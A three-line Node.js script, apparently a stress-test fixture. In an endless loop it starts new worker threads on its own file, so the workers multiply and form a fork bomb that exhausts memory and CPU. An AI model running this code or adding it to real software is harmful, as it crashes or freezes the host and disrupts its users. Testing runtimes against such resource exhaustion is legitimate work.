import { Worker, isMainThread } from 'node:worker_threads';
import { fileURLToPath } from 'node:url';
for (;;) new Worker(fileURLToPath(import.meta.url));
